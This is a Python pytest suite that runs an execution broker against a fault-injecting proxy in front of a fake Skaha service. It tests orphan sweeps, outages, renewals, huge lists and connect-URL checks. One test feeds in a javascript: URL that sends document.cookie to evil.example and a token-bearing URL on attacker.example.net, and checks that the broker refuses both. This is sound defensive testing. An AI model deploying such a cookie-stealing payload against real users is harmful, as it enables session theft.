"""The broker against a hostile Skaha: a fault-injecting proxy on loopback in front of the
fake Skaha (issue 22, item 10; FAULT-PROBES R2, R4, R6, R7, R8).

Every scenario ends with the same check: the fake Skaha holds no session of the broker's
prefix that no live component owns.
"""

from __future__ import annotations

import asyncio
import re
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from execbroker.fakes.server import ServerThread
from execbroker.fakes.skaha import Endpoint, SkahaFaults, create_fault_proxy
from execbroker.fakes.skaha.proxy import foreign_sessions
from tests.skaha.conftest import (
    ACCOUNT,
    FAST_TIMINGS,
    TERMINAL,
    MakeWorld,
    SkahaWorld,
    reading,
)
from tests.skaha.documents import headless, notebook
from tests.support.engine import TERMINAL as ENDED
from tests.support.engine import texts, until_ended
from tests.support.live import LiveBroker
from tests.support.waiting import eventually, eventually_sync
from tests.support.wire import phase_update, post

PREFIX = "execbroker-"


@dataclass
class Hostile:
    """The fake Skaha behind the fault proxy."""

    world: SkahaWorld
    faults: SkahaFaults
    proxy: ServerThread

    def settings(self, **overrides: Any) -> dict[str, Any]:
        # The API root itself: the fake's capabilities would lead past the proxy.
        return self.world.settings(skaha_url=f"{self.proxy.url}/skaha/v1", **overrides)

    def leftovers(self) -> list[str]:
        """Names of the sessions of the broker's prefix on the fake (not being deleted).
        Each scenario checks it once no component of its own is live, so any is an orphan;
        the sweep scenario checks it with its one live component too."""
        names = dict(self.world.fake.launched())
        return [names[sid] for sid in self.world.sessions() if names[sid].startswith(PREFIX)]


@pytest.fixture
def hostile(make_world: MakeWorld) -> Iterator[Hostile]:
    world = make_world()
    faults = SkahaFaults(prefix=PREFIX)
    proxy = ServerThread(create_fault_proxy(world.server.url, faults)).start()
    try:
        yield Hostile(world, faults, proxy)
    finally:
        proxy.stop()


async def start(client: httpx.AsyncClient, document: dict[str, Any]) -> str:
    created = await post(client, "/direct", document)
    assert created.status_code == 303, created.text
    return str(created.headers["location"])


async def until_phase(
    client: httpx.AsyncClient, url: str, phases: set[str], *, seconds: float = 15
) -> dict[str, Any]:
    deadline = time.monotonic() + seconds
    session: dict[str, Any] = (await client.get(url)).json()
    while session["phase"] not in phases | ENDED and time.monotonic() < deadline:
        session = (await client.get(url, params={"wait": 1})).json()
    assert session["phase"] in phases, f"{session['phase']}: {texts(session)}"
    return session


def _connectors(
    client: httpx.AsyncClient, url: str
) -> Callable[[], Awaitable[list[dict[str, Any]]]]:
    async def read() -> list[dict[str, Any]]:
        return list((await client.get(url)).json()["connectors"])

    return read


def _at_version(version: int) -> Callable[[list[dict[str, Any]]], bool]:
    return lambda found: bool(found) and str(found[0]["location"]).endswith(f"v={version}")


def _health(client: httpx.AsyncClient) -> Callable[[], Awaitable[dict[str, Any]]]:
    async def read() -> dict[str, Any]:
        return dict((await client.get("/healthz")).json())

    return read


def compute_uuid(session: dict[str, Any]) -> str:
    return str(session["compute"]["meta"]["uuid"])


async def metric(client: httpx.AsyncClient, name: str, **labels: str) -> float:
    text = (await client.get("/metrics")).text
    wanted = ",".join(f'{k}="{v}"' for k, v in sorted(labels.items()))
    for line in text.splitlines():
        match = re.match(rf"{name}\{{(.*)\}} (\S+)$", line)
        if match and ",".join(sorted(match.group(1).split(","))) == wanted:
            return float(match.group(2))
    return 0.0


async def test_a_create_that_reaches_skaha_after_the_client_gave_up_is_adopted_not_repeated(
    broker: Any, hostile: Hostile
) -> None:
    # Every create reaches Skaha 2.5 s after it was sent, while the broker waits 1 s.
    hostile.faults.set(slow_upstream={r"^POST /skaha/v1/session$": 2.5})
    settings = hostile.settings(skaha_timeout=1, skaha_create_grace=3, budget_slack=10)
    async with broker(**settings) as client:
        url = await start(client, headless(1))
        session = await until_ended(client, url, seconds=30)

    assert session["phase"] == "COMPLETED", texts(session)
    launched = Counter(name for _, name in hostile.world.fake.launched())
    assert launched == {f"{PREFIX}{compute_uuid(session)}": 1}, "one create, adopted"
    assert hostile.leftovers() == []


async def test_release_and_the_sweep_delete_every_session_of_the_broker_nobody_owns(
    broker: Any, hostile: Hostile
) -> None:
    fake = hostile.world.fake
    async with broker(**hostile.settings()) as client:
        url = await start(client, headless(30))
        running = await until_phase(client, url, {"RUNNING"})
        owner = compute_uuid(running)
        # Behind the broker's back: a duplicate of the running one (a create that landed
        # late), a session of a component that never existed, and another tool's session.
        fake.create_session(
            ACCOUNT, name=f"{PREFIX}{owner}", image=TERMINAL, cmd="sleep", args="30"
        )
        fake.create_session(ACCOUNT, name=f"{PREFIX}{uuid.uuid4()}", image=TERMINAL)
        fake.create_session(ACCOUNT, name="someone-else-2", image=TERMINAL)
        await eventually(
            reading(hostile.leftovers),
            lambda left: len(left) <= 1,
            what="the sweep done",
            within=8,
            interval=0.2,
        )

        assert hostile.leftovers() == [f"{PREFIX}{owner}"], "the sweep kept only the first"
        assert (await client.get(url)).json()["phase"] == "RUNNING", "and it runs on"
        assert (
            await metric(
                client, "execbroker_platform_swept_total", platform="skaha", reason="orphan"
            )
            >= 1
        )
        assert (
            await metric(
                client, "execbroker_platform_swept_total", platform="skaha", reason="duplicate"
            )
            >= 1
        )
        # Another duplicate lands just before the cancel: the release deletes what the
        # last list showed, the sweep what it did not.
        fake.create_session(
            ACCOUNT, name=f"{PREFIX}{owner}", image=TERMINAL, cmd="sleep", args="30"
        )
        await post(client, url, phase_update("CANCELLED"))
        await until_ended(client, url)
        await eventually(
            reading(hostile.leftovers),
            lambda left: not left,
            what="nothing left",
            within=15,
            interval=0.2,
        )

    assert hostile.leftovers() == []
    names = {name for sid, name in fake.launched() if sid in hostile.world.sessions()}
    assert names == {"someone-else-2"}, "other tools' sessions are never touched"


async def test_a_short_glitch_does_not_end_a_running_notebook(
    broker: Any, hostile: Hostile
) -> None:
    async with broker(**hostile.settings(skaha_lost_grace=4)) as client:
        url = await start(client, notebook("PT8S"))
        await until_phase(client, url, {"AVAILABLE"})
        # The list leaves it out and GET by id says 404, for 2 s (R4 had 4 s of 30 min).
        hostile.faults.set(vanish=2)
        await asyncio.sleep(2.5)  # the scenario: the glitch runs its course
        assert (await client.get(url)).json()["phase"] == "AVAILABLE"
        session = await until_ended(client, url, seconds=20)

    assert session["phase"] == "COMPLETED", texts(session)
    assert "lost" not in texts(session)
    assert hostile.leftovers() == []


async def test_a_session_missing_for_good_is_lost_after_the_grace_and_still_deleted(
    broker: Any, hostile: Hostile
) -> None:
    async with broker(**hostile.settings(skaha_lost_grace=2)) as client:
        url = await start(client, notebook("PT1M"))
        await until_phase(client, url, {"AVAILABLE"})
        hostile.faults.set(vanish=float("inf"))
        began = time.monotonic()
        session = await until_ended(client, url, seconds=20)
        waited = time.monotonic() - began
        hostile.faults.clear()  # Skaha shows it again: it must have been deleted

    assert session["phase"] == "FAILED"
    assert "lost" in texts(session["compute"])
    assert waited >= 2, "not before the grace"
    assert hostile.leftovers() == [], "the real session was deleted by its id and name"


async def test_connect_urls_outside_skaha_or_not_https_are_not_published(
    broker: Any, hostile: Hostile
) -> None:
    faults = hostile.faults
    faults.set(connect_url='javascript:fetch("//evil.example/"+document.cookie)//')
    async with broker(**hostile.settings()) as client:
        url = await start(client, notebook("PT8S"))
        session = await until_phase(client, url, {"AVAILABLE"})
        assert session["connectors"] == []
        assert "connect URL was left out" in texts(session["compute"])
        assert "scheme 'javascript'" in texts(session["compute"])

        faults.set(connect_url="https://attacker.example.net/lab?token={id}")
        # The scenario: polls go on for a while, and none publishes it. (Nothing outside
        # shows a refusal: the note and the log are said once per session, for the first.)
        await asyncio.sleep(1)
        assert (await client.get(url)).json()["connectors"] == [], "another host"

        upstream = hostile.world.server.url  # http on loopback, Skaha's own host
        for version in (1, 2):
            faults.set(connect_url=f"{upstream}/session/notebook/{{id}}/lab?v={version}")
            connectors: list[dict[str, Any]] = await eventually(
                _connectors(client, url),
                _at_version(version),
                what=f"the connector of version {version}",
                within=15,
                interval=0.2,
            )
            assert len(connectors) == 1, f"replaced, not piled up: {connectors}"
            assert connectors[0]["location"].endswith(f"v={version}")
        session = await until_ended(client, url, seconds=20)

    assert session["phase"] == "COMPLETED", texts(session)
    assert hostile.leftovers() == []


async def test_a_lifetime_within_the_renew_window_renews_once_per_interval_and_warns(
    broker: Any, make_world: MakeWorld
) -> None:
    # Skaha grants notebooks 3 s; the broker would renew 10 s before expiry (R8's storm).
    world = make_world(timings=replace(FAST_TIMINGS, session_expiry=timedelta(seconds=3)))
    settings = world.settings(skaha_renew_before=10, skaha_renew_interval=1)
    async with broker(**settings) as client:
        url = await start(client, notebook("PT7S"))
        await until_phase(client, url, {"AVAILABLE"})
        began = time.monotonic()
        health = (await client.get("/healthz")).json()
        session = await until_ended(client, url, seconds=20)
        elapsed = time.monotonic() - began

    assert session["phase"] == "COMPLETED", texts(session)  # renewed often enough
    renews = world.fake.request_count(Endpoint.MODIFY_SESSION)
    assert 1 <= renews <= elapsed / 1 + 2, f"{renews} renews in {elapsed:.1f} s"
    assert health["status"] == "ok"
    assert "skaha_renew_before" in health.get("platform_message", ""), health


@pytest.mark.alone  # another client's latency, measured
def test_a_huge_list_of_foreign_sessions_does_not_block_the_api(
    hostile: Hostile, tmp_path: Path
) -> None:
    """A broker process (its own GIL: the fakes here must not slow it down) lists Skaha
    every second while the list holds 100,000 sessions of other tools (R6: ~2 s blocked)."""

    def slowest(client: httpx.Client, seconds: float = 4) -> float:
        """The longest answer over a few list intervals (a blocked loop shows here)."""
        times = []
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            began = time.perf_counter()
            assert client.get("/sessions", params={"last": 5}).status_code == 200
            times.append(time.perf_counter() - began)
            time.sleep(0.05)  # the scenario: a steady trickle of requests
        return max(times)

    env = hostile.world.env(
        skaha_url=f"{hostile.proxy.url}/skaha/v1", skaha_list_interval=1, log_level="WARNING"
    )
    with LiveBroker(data_dir=tmp_path, env=env) as live, live.client() as client:
        created = client.post("/direct", json=notebook("PT1M"))
        assert created.status_code == 303, created.text
        url = "/" + created.headers["location"].split("/", 3)[3]
        eventually_sync(
            lambda: client.get(url).json()["phase"],
            lambda phase: phase == "AVAILABLE",
            what="the notebook available",
            within=15,
            interval=0.2,
        )
        foreign_sessions(100_000)  # made here, once: the proxy (this process) keeps it
        lists = hostile.world.fake.request_count(Endpoint.LIST_SESSIONS)
        hostile.faults.set(pad_list=100_000)
        eventually_sync(  # the broker lists again: from now on it reads the padded list
            lambda: hostile.world.fake.request_count(Endpoint.LIST_SESSIONS),
            lambda count: count >= lists + 2,  # the first may have been on its way
            what="a list of the padded sessions",
            within=30,  # 56 MB a list: seconds each on a slow machine
        )
        slow = slowest(client)
        assert client.get(url).json()["phase"] == "AVAILABLE"
        assert client.get("/healthz").json()["status"] == "ok"
        client.post(url, json=phase_update("CANCELLED"))
        eventually_sync(
            hostile.leftovers, lambda left: not left, what="nothing left", within=15, interval=0.2
        )

    assert slow < 0.5, f"an answer took {slow * 1000:.0f} ms with 100,000 foreign sessions"
    assert hostile.leftovers() == []


async def test_a_list_larger_than_the_cap_is_not_read_and_degrades_health(
    broker: Any, hostile: Hostile
) -> None:
    hostile.faults.set(pad_list=10_000)
    async with broker(**hostile.settings(skaha_list_max_bytes=1_000_000)) as client:
        url = await start(client, headless(1))
        health = await eventually(
            _health(client),
            lambda health: health["status"] != "ok",
            what="health degraded",
            within=15,
            interval=0.2,
        )
        assert health["status"] == "degraded"
        assert "skaha_list_max_bytes" in health["platform_message"]
        assert (await client.get(url)).json()["phase"] not in ENDED, "nothing failed for it"

        hostile.faults.set(pad_list=0)
        session = await until_ended(client, url, seconds=20)
        assert (await client.get("/healthz")).json()["status"] == "ok"

    assert session["phase"] == "COMPLETED", texts(session)
    assert hostile.leftovers() == []
